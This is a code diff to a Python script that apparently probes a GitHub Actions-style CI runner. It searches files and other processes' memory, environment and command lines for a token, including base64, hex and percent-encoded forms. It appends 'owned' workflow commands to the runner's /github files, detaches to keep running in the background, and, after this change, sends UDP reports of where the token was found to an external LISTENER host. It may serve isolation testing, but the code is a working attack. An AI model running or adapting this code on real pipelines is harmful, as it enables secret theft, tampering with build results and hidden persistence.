@@ -1,11 +1,13 @@
 """Look for tokens wherever this account gets, and try to change what the runner reads.
 
 Prints ``LOOT place`` for each token, ``WROTE file`` for each file changed, and at last how much it
-could look at.
+could look at. What it leaves behind goes on looking at all processes; where LISTENER names a host
+and a port it sends the same there, and ``LOOKED`` each time it is through.
 """
 
 from __future__ import annotations
 
+import base64
 import os
 import socket
 import time
@@ -22,6 +24,26 @@ COMMANDS = (
     "::stop-commands::owned",
     "::error::owned",
 )
+
+
+def forms(secret: bytes) -> tuple[bytes, ...]:
+    """A secret as it may be written: as it is, in base64 behind anything, in percents, in hex."""
+    found = [secret, secret.hex().encode()]
+    for behind in range(3):
+        # The characters at both ends depend on the neighbours too.
+        first, last = -(-behind * 8 // 6), (behind + len(secret)) * 8 // 6
+        text = base64.b64encode(b"?" * behind + secret)[first:last]
+        found += [text, text.translate(bytes.maketrans(b"+/", b"-_"))]
+    percents = "".join(f"%{each:02x}" for each in secret)
+    return (*dict.fromkeys(found), percents.encode(), percents.upper().encode())
+
+
+FORMS = forms(TOKEN)
+
+
+def found(content: bytes) -> bool:
+    """Whether there is a token in a content, however it is written."""
+    return any(form in content for form in FORMS)
 
 
 def files() -> Iterator[Path]:
@@ -46,7 +68,7 @@ def memory() -> Iterator[str]:
                 for line in (process / "maps").read_text().splitlines():
                     start, _, end = line.split(" ")[0].partition("-")
                     opened.seek(int(start, 16))
-                    if TOKEN in opened.read(min(int(end, 16) - int(start, 16), LARGEST)):
+                    if found(opened.read(min(int(end, 16) - int(start, 16), LARGEST))):
                         yield f"{process}/mem {line}"
         except OSError:
             continue
@@ -59,16 +81,34 @@ def stay() -> None:
     os.setsid()
     for number in range(3):
         os.close(number)
+    os.nice(19)
     until = time.monotonic() + 60
     while time.monotonic() < until:
+        report()
         for file in Path("/github/file_commands").glob("*"):
             try:
                 with file.open("ab") as opened:
                     opened.write(b"result=owned\n")
             except OSError:
                 continue
-        time.sleep(0.001)
+        time.sleep(0.01)
     os._exit(0)
+
+
+def report() -> None:
+    """Look at all processes once more, and say so where somebody listens."""
+    host, _, port = os.environ.get("LISTENER", "").rpartition(":")
+    if not port:
+        return
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as mouth:
+        for process in Path("/proc").glob("[0-9]*"):
+            for name in ("environ", "cmdline"):
+                try:
+                    if found((process / name).read_bytes()):
+                        mouth.sendto(f"LOOT {process}/{name}".encode(), (host, int(port)))
+                except OSError:
+                    continue
+        mouth.sendto(b"LOOKED", (host, int(port)))
 
 
 def main() -> None:
@@ -82,10 +122,10 @@ def main() -> None:
         except OSError:
             continue
         looked += 1
-        if TOKEN in content:
+        if found(content):
             print("LOOT", file)
-    for found in memory():
-        print("LOOT", found)
+    for place in memory():
+        print("LOOT", place)
     for file in Path("/github").rglob("*"):
         try:
             with file.open("ab") as opened:
@@ -107,4 +147,5 @@ def main() -> None:
     print(f"LOOKED at {looked} files as {os.getuid()}:{os.getgid()} with {os.getgroups()}")
 
 
-main()
+if __name__ == "__main__":
+    main()
